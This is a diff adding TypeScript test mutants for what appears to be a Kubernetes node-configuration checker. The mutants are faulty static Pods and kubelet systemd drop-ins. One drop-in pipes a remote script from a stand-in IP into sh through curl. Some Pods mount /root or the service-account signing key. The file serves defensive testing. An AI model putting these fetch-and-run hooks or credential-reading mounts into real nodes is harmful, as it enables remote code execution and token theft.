@@ -1,0 +1,69 @@
+/** Static Pods beside the components, and what the unit of the kubelet keeps from it. */
+import { unit } from './node-beyond.js';
+import { added, all, manifest, onDisk, PKI } from './node-disk.js';
+import type { Mutant } from './types.js';
+
+interface Helper {
+  readonly name?: string;
+  readonly image?: string;
+  readonly path?: string;
+  readonly more?: string;
+}
+const helper = ({ name = 'lb', image = 'lb:1', path = '/etc/lb', more = '' }: Helper): string =>
+  [
+    ...['apiVersion: v1', 'kind: Pod', `metadata: { name: ${name}, namespace: kube-system }`, 'spec:', '  containers:'],
+    ...[`  - name: lb`, `    image: ${image}`, `    volumeMounts: [{ name: c, mountPath: /c, readOnly: true }${more}]`],
+    ...['  hostNetwork: true', `  volumes: [{ name: c, hostPath: { path: ${path} } }]`, ''],
+  ].join('\n');
+const beside = (name: string, defect: string, rule: string, what: Helper): Mutant =>
+  onDisk(`helper-${name}`, `a static Pod beside the components ${defect}`, [rule], added(manifest('lb'), helper(what)));
+
+const PART = '/etc/systemd/system/kubelet.service.d/30-own.conf';
+const part = (name: string, defect: string, lines: string): Mutant =>
+  onDisk(
+    `unit-${name}`,
+    `the unit of the kubelet ${defect}`,
+    ['P-219'],
+    all(unit, added(PART, `[Service]\n${lines}\n`, 0o644)),
+  );
+
+export const mutants: readonly Mutant[] = [
+  beside('mounts-no-volume', 'mounts a volume that it has not', 'P-217', { more: ', { name: d, mountPath: /d }' }),
+  beside('without-an-image', 'has no image', 'P-217', { image: '""' }),
+  beside('named-as-another', 'has the name of etcd', 'P-217', { name: 'etcd' }),
+  beside('reads-what-root-keeps', 'reads the home of root', 'P-218', { path: '/root' }),
+  beside('signs', 'has the key that signs tokens', 'P-218', { path: `${PKI}/sa.key` }),
+  part('of-its-own-mounts', 'keeps mounts to itself', 'PrivateMounts=yes'),
+  part('that-ends', 'waits for a program that has ended', 'Type=forking'),
+  part(
+    'that-fetches-later',
+    'fetches a script once it runs',
+    'ExecStartPost=/bin/sh -c "curl -s http://198.51.100.1/a | sh"',
+  ),
+  {
+    ...onDisk(
+      'helpers-and-parts',
+      'a load balancer runs beside the components, and an operator has parts of the unit',
+      [],
+      all(
+        unit,
+        added(manifest('lb'), helper({})),
+        added(
+          PART,
+          [
+            ...[
+              '[Unit]',
+              'After=containerd.service',
+              '[Service]',
+              "Environment='HTTPS_PROXY=http://proxy.example:3128'",
+            ],
+            ...['Environment="NO_PROXY=.svc" A=b', 'CPUAccounting=true', 'Delegate=yes', 'ProtectSystem=full'],
+            ...['ExecStartPre=-/usr/sbin/modprobe overlay', 'ExecStartPost=/bin/sh -c "echo started"', ''],
+          ].join('\n'),
+          0o644,
+        ),
+      ),
+    ),
+    name: 'harmless-node-helpers-and-parts',
+  },
+];
